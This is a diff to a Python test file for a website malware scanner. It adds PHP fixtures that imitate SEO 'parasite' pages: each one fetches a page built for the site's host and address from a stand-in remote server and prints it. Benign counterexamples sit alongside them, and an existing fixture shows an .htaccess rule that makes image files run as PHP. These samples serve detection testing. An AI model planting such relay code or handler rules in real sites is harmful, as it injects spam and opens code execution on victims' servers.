@@ -83,6 +83,46 @@ def test_news_about_gambling_and_ordinary_javascript_are_not_spam():
     assert verdict("assets/chart.js", SCATTER_JS)["kind"] is None
 
 
+# Remote pages relayed as the site's own (the SEO "parasite" pages of public malware collections: a remote server
+# builds a page for each host and address it is asked about, the planted file prints it). Written here after that
+# technique with reserved addresses; each variant fetches another way.
+RELAYS = {
+    "direct": "<?php\n$remote = 'http://203.0.113.7';\n$me = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['PHP_SELF'];\n"
+              "$page = file_get_contents($remote . '/index.php?host=' . $me . '&url=' . $_SERVER['QUERY_STRING']);\n"
+              "echo $page;\n",
+    "helper": "<?php\n$srv = \"http://spam.example/\";\n$h = \"http://\".$_SERVER['SERVER_NAME'].$_SERVER['REQUEST_URI'];\n"
+              "$c = fetch_page($srv . '/?host=' . $h);\necho $c;\nfunction fetch_page($u) {\n"
+              "  $ctx = stream_context_create(array('http' => array('method' => 'GET')));\n"
+              "  $html = @file_get_contents($u, false, $ctx);\n  return $html;\n}\n",
+    "curl": "<?php\n$ch = curl_init('https://cdn.example/gen.php?d=' . urlencode($_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']));"
+            "\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$out = curl_exec($ch);\nprint $out;\n",
+}
+# What applications do with their own address and a remote service: a share counter decodes the answer, a proxy
+# forwards the query but not the site's host, a canonical link prints the site's own address.
+NOT_RELAYS = {
+    "share_count": "<?php\n$self = 'https://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n"
+                   "$json = file_get_contents('https://graph.example/?id=' . urlencode($self));\n"
+                   "$data = json_decode($json);\necho (int) $data->shares;\n",
+    "api_proxy": "<?php\n$answer = file_get_contents('https://api.example/search?' . $_SERVER['QUERY_STRING']);\n"
+                 "echo $answer;\n",
+    "canonical": "<?php\n$url = 'https://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n"
+                 "$menu = file_get_contents(__DIR__ . '/menu.html');\necho $menu;\n"
+                 "echo '<link rel=\"canonical\" href=\"' . htmlspecialchars($url) . '\">';\n",
+}
+
+
+def test_a_remote_page_relayed_for_this_host_and_address_is_spam():
+    for name, code in RELAYS.items():
+        result = verdict("news/%s.php" % name, code.encode())
+        assert result["kind"] == "spam_injection" and "remote_page_relayed" in result["signals"], (name, result)
+
+
+def test_a_remote_answer_the_application_uses_is_no_relay():
+    for name, code in NOT_RELAYS.items():
+        result = verdict("lib/%s.php" % name, code.encode())
+        assert "remote_page_relayed" not in (result or {}).get("signals", ()), (name, result)
+
+
 def test_htaccess_making_images_executable_and_redirecting_crawlers():
     handler = b"<FilesMatch \"\\.(jpg|png)$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n"
     assert "htaccess_executes_other_extensions" in verdict("wp-content/uploads/.htaccess", handler)["signals"]
